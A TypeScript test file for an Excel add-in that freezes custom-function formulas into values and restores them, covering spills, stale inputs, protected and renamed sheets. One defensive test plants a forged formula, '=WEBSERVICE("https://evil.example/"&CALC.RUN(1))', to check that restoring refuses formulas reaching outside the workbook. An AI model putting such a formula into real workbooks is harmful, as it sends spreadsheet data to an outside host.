import type { CustomFunctionMetadata } from '../../../host/grid/customFunction';
import { bootOfficeWithFreshSheets, office } from '../../../host/testing/officeOfTest';
import { boxAddress, fullAddress, type SheetBox } from '../excel/a1';
import type { ShownCase } from '../formulas/calculatedCells';
import type { FailedCase } from '../formulas/failedCases';
import { readSelectedBoxes } from '../formulas/formulaCells';
import { freeze, type FreezeOptions } from './freeze';
import { rowsAbove } from '../cells/reportSheet';
import { frozenHeader, underHeader } from './frozenRecord';
import { frozenCases, frozenCellsOf } from './frozenCells';
import { readFrozenRows } from './frozenSheet';
import { withFrozenReads, withStaleReads } from './staleReads';
import { provenanceOf } from '../formulas/provenance';
import { repairFormulas } from './repair';
import { unfreeze } from './unfreeze';

const any = (name: string) => ({ name, type: 'any' as const, dimensionality: 'scalar' as const });
const declared = (id: string, parameters: string[]): Omit<CustomFunctionMetadata, 'gridName'> => ({
  ...{ id, name: id, options: {} },
  parameters: parameters.map(any),
});

let calls: number;
let run: (what: unknown) => unknown;

const table = [
  ['Load', 'psf'],
  ['=risky', -0.1],
];

const inputs = { ...any('inputs'), dimensionality: 'matrix' as const, optional: true };

bootOfficeWithFreshSheets({
  functions: {
    functions: [{ ...declared('RUN', []), parameters: [any('what'), inputs] }, declared('FAIL', [])],
  },
  globals: ['Excel'],
});
beforeEach(() => {
  calls = 0;
  run = (what) => (what === 'table' ? table : what);
  office.CustomFunctions.associate('RUN', (what: unknown) => {
    calls += 1;
    return run(what);
  });
  office.CustomFunctions.associate('FAIL', () => {
    throw new office.CustomFunctions.Error(office.CustomFunctions.ErrorCode.notAvailable, 'Paused');
  });
});

const control = { progress: () => undefined, isStopped: () => false };
const options: FreezeOptions = {
  ...control,
  now: '2026-01-02T03:04:05Z',
  about: 'About Calc',
  provenanceOf: async (cells) => cells.map(() => provenanceOf([])),
  linkTo: () => null,
};

const formula = (address: string) => {
  const sheet = office.grid.sheets()[0]?.id ?? '';
  const [, letter = 'A', row = '1'] = /([A-Z])(\d+)/.exec(address) ?? [];
  const box = { row: Number(row) - 1, column: letter.charCodeAt(0) - 65, rowCount: 1, columnCount: 1 };
  return office.grid.formulas(sheet, box)[0]?.[0];
};
const names = () => office.grid.sheets().map(({ name }) => name);

async function enter(cells: Record<string, string>): Promise<void> {
  for (const [address, text] of Object.entries(cells)) office.enter(address, text);
  await office.settled();
}

const mixed = {
  A1: '=CALC.RUN(31.64)',
  A2: '=CALC.RUN("=1+1")',
  A3: '=CALC.RUN(CALC.RUN(6))',
  A4: '=A1',
  A5: '=CALC.FAIL()',
  C1: '=CALC.RUN("table")',
};

test.each([
  ['D2', ['D2', 'C1']],
  ['A2:D2', ['A2:D2', 'C1']],
  ['C1:D2', ['C1:D2']],
  ['E1:E2', ['E1:E2']],
])(
  'of the selection %s the formulas of %j are meant: a cell of a spill belongs to its formula',
  async (address, boxes) => {
    await enter(mixed);
    const selected = await Excel.run(async (context) => {
      context.workbook.worksheets.getActiveWorksheet().getRange(address).select();
      await context.sync();
      return readSelectedBoxes(context);
    });
    expect(selected.map(boxAddress)).toEqual(boxes);
  },
);

test('formulas become values, other formulas and errors stay, and all come back exactly', async () => {
  await enter(mixed);
  const before = office.read('A1:D5');
  expect(before[1]).toEqual(['=1+1', '', '=risky', -0.1]);
  const outcome = await freeze(options);
  expect({ ...outcome, frozen: outcome.frozen.map(boxAddress) }).toEqual({
    frozen: ['A1', 'A2', 'A3', 'C1:D2'],
    problems: [{ address: 'Sheet1!A5', reason: 'It shows #N/A, which is not a result' }],
    stopped: false,
  });
  await office.settled();
  expect(office.read('A1:D5')).toEqual(before);
  expect(['A1', 'A3', 'A4', 'A5'].map(formula)).toEqual([31.64, 6, '=A1', '=CALC.FAIL()']);
  expect(formula('C1')).toBe('Load');
  expect(names()).toEqual(['Sheet1', 'Calc frozen']);

  expect(await unfreeze(control)).toEqual({ restored: 4, problems: [], stopped: false });
  await office.settled();
  expect(Object.keys(mixed).map(formula)).toEqual(Object.values(mixed));
  expect(office.read('A1:D5')).toEqual(before);
  expect(names()).toEqual(['Sheet1']);
});

test('a formula that refers to an empty text of a table shows the same when the table is frozen', async () => {
  run = () => [
    ['Load', ''],
    ['snow', 1],
  ];
  await enter({ C1: '=CALC.RUN("table")', A1: '=D1', A3: '=CALC.RUN("table",A1:B2)' });
  expect(office.read('A1')).toEqual([['']]);
  await freeze(options);
  await office.settled();
  expect(office.read('A1')).toEqual([['']]);
  expect((await read()).map(({ inputs }) => inputs)).toEqual(['same', 'same']);
  expect((await unfreeze(control))?.restored).toBe(2);
  await office.settled();
  expect(office.read('C1:D2')).toEqual([
    ['Load', ''],
    ['snow', 1],
  ]);
});

test('freezing keeps no formula that is still calculating', async () => {
  run = () => new Promise(() => undefined);
  office.enter('A1', '=CALC.RUN(1)');
  expect((await freeze(options)).problems).toEqual([
    { address: 'Sheet1!A1', reason: 'It shows #BUSY!, which is not a result' },
  ]);
});

test('only the selection is frozen and brought back; a second freezing goes to the same sheet', async () => {
  await enter(mixed);
  const sheet = office.grid.sheets()[0]?.id ?? '';
  const within = [
    { worksheetId: sheet, sheetName: 'Sheet1', row: 0, column: 0, rowCount: 1, columnCount: 1 },
  ];
  expect((await freeze({ ...options, within })).frozen).toHaveLength(1);
  expect((await freeze(options)).frozen).toHaveLength(3);
  expect(names()).toEqual(['Sheet1', 'Calc frozen']);
  expect((await unfreeze({ ...control, within }))?.restored).toBe(1);
  expect([formula('A1'), formula('A3')]).toEqual(['=CALC.RUN(31.64)', 6]);
  expect((await unfreeze(control))?.restored).toBe(3);
  expect(names()).toEqual(['Sheet1']);
});

test('a value that was changed since stays, and is named', async () => {
  await enter(mixed);
  await freeze(options);
  office.enter('A1', '40');
  office.enter('D2', '7');
  const outcome = await unfreeze(control);
  expect(outcome?.restored).toBe(2);
  expect(outcome?.problems).toEqual([
    { address: 'Sheet1!A1', reason: expect.stringContaining('have been changed') as string },
    { address: 'Sheet1!C1:D2', reason: expect.stringContaining('have been changed') as string },
  ]);
  expect([formula('A1'), formula('D2')]).toEqual([40, 7]);
  // They are not forgotten: changed back, they can be unfrozen.
  office.enter('A1', '31.64');
  expect((await unfreeze(control))?.restored).toBe(1);
});

test('the sheet that keeps them is found whatever it is called', async () => {
  await enter(mixed);
  await freeze(options);
  await office.Excel.run(async (context) => {
    context.workbook.worksheets.getItem('Calc frozen').name = 'Kept';
    await context.sync();
  });
  expect(await unfreeze(control)).toEqual({ restored: 4, problems: [], stopped: false });
});

/** @param results of studies that are not up to date */
const read = async (results: readonly SheetBox[] = []) =>
  (
    await office.Excel.run(async (context) => withStaleReads(context, await readFrozenRows(context), results))
  ).slice(rowsAbove + 1);

test('a cell that has a formula of ours again is frozen no longer, and the next freezing removes its row', async () => {
  await enter(mixed);
  await freeze(options);
  const addresses = async () => (await read()).map(({ cells }) => cells[0]);
  await enter({ A1: '=CALC.RUN(40)', A2: '=B1' });
  expect(await addresses()).toEqual(['Sheet1!A2', 'Sheet1!A3', 'Sheet1!C1:D2']);
  expect((await read()).map(({ isEdited }) => isEdited)).toEqual([true, false, false]);
  await freeze(options);
  const kept = () => office.read("'Calc frozen'!A5:A20").flat().filter(Boolean);
  expect(await addresses()).toEqual(['Sheet1!A2', 'Sheet1!A3', 'Sheet1!C1:D2', 'Sheet1!A1']);
  expect(kept().filter((address) => address === 'Sheet1!A1')).toHaveLength(1);
  await enter({ A1: '=CALC.RUN(50)' });
  expect((await unfreeze(control))?.problems.map(({ address }) => address)).toEqual(['Sheet1!A2']);
  await office.settled();
  expect([formula('A1'), kept().at(-1)]).toEqual(['=CALC.RUN(50)', 'Sheet1!A2']);
});

describe('the values of a frozen formula', () => {
  const edited = async () => (await read()).map(({ isEdited }) => isEdited);

  test('are edited when a cell of them is, until it is changed back', async () => {
    await enter(mixed);
    await freeze(options);
    expect(await edited()).toEqual([false, false, false, false]);
    await enter({ A1: '40', D2: '7' });
    expect(await edited()).toEqual([true, false, false, true]);
    await enter({ A1: '31.64' });
    expect(await edited()).toEqual([false, false, false, true]);
  });
});

describe('the inputs of a frozen formula', () => {
  const since = async () => (await read()).map(({ inputs }) => inputs);
  const inSheet = async (work: (sheet: Excel.Worksheet) => void) => {
    await office.Excel.run(async (context) => {
      work(context.workbook.worksheets.getItem('Sheet1'));
      await context.sync();
    });
    await office.settled();
  };

  test('are the same until one of its cells changes, and again when it is changed back', async () => {
    await enter({
      B1: '7',
      B2: '=B1*2',
      A1: '=CALC.RUN(B2)',
      A2: '=CALC.RUN(B9)',
      A3: '=CALC.RUN(SUM(E:E))',
    });
    await freeze(options);
    expect(await since()).toEqual(['same', 'same', 'same']);
    await enter({ B1: '8' });
    expect(await since()).toEqual(['changed', 'same', 'same']);
    await enter({ B1: '7', E400: '1' });
    expect(await since()).toEqual(['same', 'same', 'changed']);
  });

  test('are followed when rows are inserted, and changed when they are deleted', async () => {
    await enter({ B5: '7', A1: '=CALC.RUN(B5)', A2: '=CALC.RUN(5)' });
    await freeze(options);
    await inSheet((sheet) => void sheet.getRange('3:3').insert('Down'));
    expect(await since()).toEqual(['same', 'same']);
    await inSheet((sheet) => void sheet.getRange('6:6').delete('Up'));
    expect(await since()).toEqual(['changed', 'same']);
  });

  test('name the cell that changed; another mark is no change', async () => {
    await enter({ C1: 'Mark', D1: 'B1', C2: 'span', D2: '10', E2: 'ft' });
    await enter({ A1: '=CALC.RUN("beam",C1:E2)' });
    await freeze(options);
    await enter({ D1: 'B2' });
    expect(await read()).toMatchObject([{ inputs: 'same', markNow: 'B2' }]);
    await enter({ D2: '12' });
    expect(await read()).toMatchObject([{ inputs: 'changed', changed: 'D2, span: 12 ft, was 10 ft' }]);
  });

  test('name the rows that changed of one call; of several calls it is not known which cases these are', async () => {
    await enter({ C1: 'length', C2: '10', C3: '12' });
    await enter({ A1: '=CALC.RUN("x",C1:C3)', A9: '=CALC.RUN("x",C1:C3)&CALC.RUN("y",1)' });
    await freeze(options);
    await enter({ C3: '14' });
    const [one, several] = await read();
    expect(one).toMatchObject({ inputs: 'changed', changedRows: [{ index: 1 }] });
    expect(several).toMatchObject({ inputs: 'changed' });
    expect(several?.changedRows).toBeUndefined();
  });

  test('that are columns of a table do not take the mark of another member', async () => {
    await enter({ C1: 'Mark', D1: 'F-1', E1: 'F-2', C2: 'width', D2: '4', E2: '5' });
    await enter({ A1: '=CALC.RUN("footing",CHOOSECOLS(C1:E2,1,3))' });
    await freeze(options);
    expect(await read()).toMatchObject([{ inputs: 'same', markNow: null }]);
  });

  test('are not up to date where they come from a frozen cell that is not, through other formulas too', async () => {
    await enter({ B1: '7', A1: '=CALC.RUN(B1)', C2: '=A1*2', C3: '=C2+1' });
    await enter({ A2: '=CALC.RUN(C3)', A3: '=CALC.RUN(A2)', A4: '=CALC.RUN(B2)' });
    await freeze(options);
    expect(await since()).toEqual(['same', 'same', 'same', 'same']);
    await enter({ B1: '8' });
    const why = 'which is not up to date';
    expect((await read()).map(({ inputs, reads }) => [inputs, reads])).toEqual([
      ['changed', undefined],
      ['changed', `it reads Sheet1!A1, ${why}`],
      ['changed', `it reads Sheet1!A2, ${why}`],
      ['same', undefined],
    ]);
    await enter({ B1: '7' });
    expect(await since()).toEqual(['same', 'same', 'same', 'same']);
  });

  test('are not up to date where they come from results of studies that are not, each by the cell that is read', async () => {
    await enter({ D2: '3', D3: '4', E3: '5', C1: '=E3' });
    await enter({ A1: '=CALC.RUN(D2)', A2: '=CALC.RUN(C1,D3:D4)', A3: '=CALC.RUN(A2)' });
    await freeze(options);
    const row = { worksheetId: 'w', sheetName: 'Sheet1', row: 2, column: 2, rowCount: 1, columnCount: 4 };
    expect((await read([row])).map(({ inputs, reads }) => [inputs, reads])).toEqual([
      ['same', undefined],
      ['changed', 'it reads Sheet1!E3, Sheet1!D3, which are not up to date'],
      ['changed', 'it reads Sheet1!A2, which is not up to date'],
    ]);
  });

  test('are not up to date in the rows of a table that read a frozen cell that is not', async () => {
    run = (what) => (what === 'table' ? [['PASS'], ['PASS'], ['PASS']] : what);
    const Cases = JSON.stringify(['F1', 'F2', 'F3'].map((mark) => [mark, 'PASS', 0.5]));
    await enter({ B1: '7', A1: '=CALC.RUN(B1)', C2: '=A1*2' });
    await enter({ E1: 'load', E2: '1', E3: '=C2', E4: '3', E5: '=G2', A3: '=CALC.RUN("table",E1:E4)' });
    await enter({ H1: 'load', H2: '=A3', H3: '=A4', H4: '=A5', G1: '=CALC.RUN("table",H1:H4)' });
    await freeze({
      ...options,
      provenanceOf: async (cells) =>
        cells.map(({ formula: of }) => ({ ...provenanceOf([]), cases: of.includes('table') ? Cases : '' })),
    });
    await enter({ B1: '8' });
    const frozen = async () => frozenCellsOf(await read(), () => 'w', []).flatMap(frozenCases);
    const reads = async () =>
      (await frozen()).map(({ box, inputs, reads: why }) => [fullAddress(box), inputs, why]);
    const why = 'which is not up to date';
    expect(await reads()).toEqual([
      ['Sheet1!A1', 'changed', undefined],
      ['Sheet1!G1', 'same', undefined],
      ['Sheet1!G2', 'changed', `it reads Sheet1!A4, ${why}`],
      ['Sheet1!G3', 'same', undefined],
      ['Sheet1!A3', 'same', undefined],
      ['Sheet1!A4', 'changed', `it reads Sheet1!A1, ${why}`],
      ['Sheet1!A5', 'same', undefined],
    ]);
    await enter({ E4: '4' });
    expect((await frozen()).map(({ inputs, changed }) => changed || inputs)).toEqual([
      ...['B1: 8, was 7', 'same', 'changed', 'changed', 'same', 'changed', 'E4, load: 4, was 3'],
    ]);
  });

  test('are read by formulas that are not frozen: each case that reads one that is not up to date says so', async () => {
    await enter({ B1: '7', A1: '=CALC.RUN(B1)', C2: '=A1*2' });
    await freeze(options);
    const cellOf = (row: number, text: string, indexes: number[]) => ({
      ...{ worksheetId: 'w', sheetName: 'Sheet1', row, column: 6, formula: text, value: 1 },
      cases: indexes.map((index) => ({ index }) as ShownCase),
    });
    await enter({ E1: 'load', E2: '1', E3: '=C2' });
    const cells = [
      cellOf(0, '=CALC.RUN(C2)', [0]),
      cellOf(1, '=CALC.RUN("table",E1:E3)', [0, 1]),
      cellOf(3, '=CALC.RUN(E2)', [0]),
      // What else they read is not clear.
      cellOf(4, '=CALC.RUN(C2,OFFSET(E1,1,0))', [0]),
      // Its cases are in other rows.
      cellOf(5, '=CALC.RUN("table",CHOOSEROWS(E1:E3,1,3,2))', [0, 1]),
      { ...cellOf(6, '=CALC.RUN("table",E1:E3)', [0]), failedCases: [{ index: 1 } as FailedCase] },
    ];
    const reads = async () =>
      (
        await withFrozenReads(
          cells,
          frozenCellsOf(await read(), () => 'w', []),
          [],
        )
      ).map((cell) => cell.cases.map((one) => one.reads));
    const none = [[undefined], [undefined, undefined], [undefined], [undefined]];
    none.push([undefined, undefined], [undefined]);
    expect(await reads()).toEqual(none);
    await enter({ B1: '8' });
    const why = 'it reads Sheet1!A1, which is not up to date';
    expect(await reads()).toEqual([[why], [undefined, why], [undefined], [why], [why, why], [undefined]]);
    await unfreeze(control);
    await office.settled();
    expect(await reads()).toEqual(none);
  });

  test('are not known where an earlier version kept no check of them', async () => {
    await enter({ B5: '7', A1: '=CALC.RUN(B5)' });
    await freeze(options);
    await office.Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem('Calc frozen');
      const column = frozenHeader.indexOf('Input check');
      sheet.getRangeByIndexes(rowsAbove, column, 2, 1).clear('Contents');
      await context.sync();
    });
    expect(await since()).toEqual([null]);
  });
});

test('the reasons of a row are read whole: wrapped, in a column as wide as many of them need', async () => {
  await enter({ A1: '=CALC.RUN(1)', A2: '=CALC.RUN(2)', A3: '=CALC.RUN(3)' });
  const frozen = async (reasons: string, row: number) => {
    await freeze({
      ...options,
      within: [
        {
          worksheetId: office.grid.sheets()[0]!.id,
          sheetName: 'Sheet1',
          row,
          column: 0,
          rowCount: 1,
          columnCount: 1,
        },
      ],
      provenanceOf: async (cells) => cells.map(() => ({ ...provenanceOf([]), reasons })),
    });
    return office.Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem('Calc frozen');
      const { format } = sheet.getCell(rowsAbove + 1 + row, frozenHeader.indexOf('Reasons'));
      format.load('wrapText, columnWidth, rowHeight');
      await context.sync();
      return format.toJSON() as Pick<Excel.RangeFormat, 'wrapText' | 'columnWidth' | 'rowHeight'>;
    });
  };
  const many = await frozen('Bending exceeds its limit; '.repeat(100), 0);
  const one = await frozen('Caution: Unbalanced load is larger: 30.8 psf on the leeward side', 1);
  expect([many.wrapText, one.wrapText]).toEqual([true, true]);
  // A row has 27 lines at most.
  expect(many.columnWidth).toBeGreaterThan((2700 / 27) * 5);
  expect(one.columnWidth).toBe(many.columnWidth);
  expect(many.rowHeight).toBeGreaterThan(300);
  const lines = await frozen(Array.from({ length: 5 }, (_, i) => `B${i}: Shear 1.0${i}`).join('\n'), 2);
  expect([lines.wrapText, lines.rowHeight]).toEqual([true, 75]);
  expect((await unfreeze(control))?.restored).toBe(3);
});

test('a protected sheet is left unchanged and named', async () => {
  await enter({ A1: '=CALC.RUN(1)' });
  const protect = (on: boolean) =>
    office.Excel.run(async (context) => {
      const { protection } = context.workbook.worksheets.getItem('Sheet1');
      if (on) protection.protect();
      else protection.unprotect();
      await context.sync();
    });
  await protect(true);
  const refused = [{ address: 'Sheet1!A1', reason: 'Its worksheet is protected: unprotect it first' }];
  expect(await freeze(options)).toEqual({ frozen: [], problems: refused, stopped: false });
  await protect(false);
  await freeze(options);
  await protect(true);
  expect(await unfreeze(control)).toEqual({ restored: 0, problems: refused, stopped: false });
  await protect(false);
  expect((await unfreeze(control))?.restored).toBe(1);
});

test('what cannot be restored on a renamed worksheet is listed by its name of today', async () => {
  await enter({ A1: '=CALC.RUN(B1)', B1: '7', A3: '=CALC.RUN("table")' });
  await freeze(options);
  await office.Excel.run(async (context) => {
    const sheet = context.workbook.worksheets.getItem('Sheet1');
    sheet.name = 'Roof beams';
    sheet.getRange('B1').delete('Up');
    sheet.getRange('A4:B4').insert('Down');
    await context.sync();
  });
  await office.settled();
  expect((await unfreeze(control))?.problems.map(({ address }) => address)).toEqual([
    "'Roof beams'!A1",
    "'Roof beams'!A3:B5",
  ]);
});

test('an array of 10,000 cells is one formula', async () => {
  run = () => Array.from({ length: 1_000 }, (_, r) => Array.from({ length: 10 }, (__, c) => r * 10 + c));
  await enter({ A1: '=CALC.RUN(1)' });
  expect((await freeze(options)).frozen).toHaveLength(1);
  expect(formula('A1000')).toBe(9990);
  expect((await unfreeze(control))?.restored).toBe(1);
  await office.settled();
  expect([formula('A1'), office.read('J1000')]).toEqual(['=CALC.RUN(1)', [[9999]]]);
});

test('many formulas are frozen in few requests, stop between steps, and go on', async () => {
  const rows = Array.from({ length: 700 }, (_, i) => [`=CALC.RUN(${i})`]);
  await office.Excel.run(async (context) => {
    context.workbook.worksheets.getItem('Sheet1').getRange('B1:B700').formulas = rows;
    await context.sync();
  });
  await office.settled();
  let steps = 0;
  const stopped = await freeze({ ...options, isStopped: () => (steps += 1) > 1 });
  expect([stopped.frozen.length, stopped.stopped]).toEqual([500, true]);
  const before = office.requests.length;
  expect((await freeze(options)).frozen).toHaveLength(200);
  expect(office.requests.length - before).toBeLessThan(60);
  expect((await unfreeze(control))?.restored).toBe(700);
  await office.settled();
  expect(office.read('B700')).toEqual([[699]]);
});

test('columns in the order of earlier versions are read', async () => {
  await enter(mixed);
  await freeze(options);
  const earlier = ['Cell when frozen', 'Value', 'Formula', 'Rows', 'Columns', 'Check', 'References'];
  const order = [...earlier, ...frozenHeader.filter((name) => !earlier.includes(name))];
  await office.Excel.run(async (context) => {
    const records = context.workbook.worksheets.getItem('Calc frozen').getUsedRange();
    records.load('formulas');
    await context.sync();
    records.formulas = (records.formulas as unknown[][]).map((row, r) =>
      r < rowsAbove ? row : underHeader(row, frozenHeader, order, ''),
    );
    await context.sync();
  });
  expect(await unfreeze(control)).toMatchObject({ restored: 4 });
});

test('a record of a hand-made file brings back no formula that reaches out of the workbook, and says why', async () => {
  await enter(mixed);
  await freeze(options);
  const forge = (row: number, text: string) =>
    office.Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem('Calc frozen');
      const records = sheet.getUsedRange();
      records.load('values, rowIndex');
      await context.sync();
      const values = records.values as unknown[][];
      const at = values.findIndex(([address]) => address === `Sheet1!A${row}`);
      sheet.getCell(records.rowIndex + at, frozenHeader.indexOf('Formula')).values = [[text]];
      await context.sync();
    });
  await forge(1, '=WEBSERVICE("https://evil.example/"&CALC.RUN(1))');
  const outcome = await unfreeze(control);
  expect(outcome).toMatchObject({ restored: 3, stopped: false });
  expect(outcome?.problems).toEqual([
    {
      address: 'Sheet1!A1',
      reason:
        'Its formula was not restored: it calls WEBSERVICE, which is not known to stay inside the workbook. ' +
        'Read it on the worksheet of frozen formulas, and enter it by hand if it is yours',
    },
  ]);
  await office.settled();
  expect([formula('A1'), formula('A2')]).toEqual([31.64, mixed.A2]);
  expect(names()).toContain('Calc frozen');
});

test('formulas with names of the workbook come back', async () => {
  await office.Excel.run(async (context) => {
    context.workbook.names.add('site', '=42');
    context.workbook.worksheets.getItem('Sheet1').names.add('roof', '=Sheet1!$F$1');
    await context.sync();
  });
  await enter({ F1: '7', A1: '=CALC.RUN(site)', A2: '=CALC.RUN(roof)' });
  const before = ['A1', 'A2'].map(formula);
  expect((await freeze(options)).frozen).toHaveLength(2);
  expect(await unfreeze(control)).toEqual({ restored: 2, problems: [], stopped: false });
  expect(['A1', 'A2'].map(formula)).toEqual(before);
});

test('a formula that could not be restored can be left unchanged', async () => {
  await enter({ A1: '=CALC.RUN(6)', A2: '=CALC.RUN(WEBSERVICE("https://example.com"))', A3: '=CALC.RUN(7)' });
  const { frozen, problems } = await freeze({ ...options, onlyRestorable: true });
  expect(frozen.map(boxAddress)).toEqual(['A1', 'A3']);
  expect(problems.map(({ address }) => address)).toEqual(['Sheet1!A2']);
  expect((await unfreeze({ ...control, within: frozen }))?.restored).toBe(2);
});

test('with nothing frozen there is nothing to bring back', async () => {
  expect(await unfreeze(control)).toBeNull();
  expect(await freeze(options)).toEqual({ frozen: [], problems: [], stopped: false });
  expect(names()).toEqual(['Sheet1']);
});

test('formulas that are stuck in #NAME? are entered again, others are not touched', async () => {
  await enter({ A1: '=CALC.RUN(1)', A2: '=_xldudf_CALC_RUN(2)', A3: '=NOTOURS(1)' });
  expect(office.read('A2')).toEqual([['#NAME?']]);
  const before = calls;
  expect(await repairFormulas(control)).toEqual({
    repaired: [{ address: 'Sheet1!A2', showed: '#NAME?' }],
    problems: [],
    stopped: false,
  });
  await office.settled();
  expect([formula('A2'), office.read('A1:A2')]).toEqual(['=CALC.RUN(2)', [[1], [2]]]);
  expect(calls).toBe(before + 1);
});
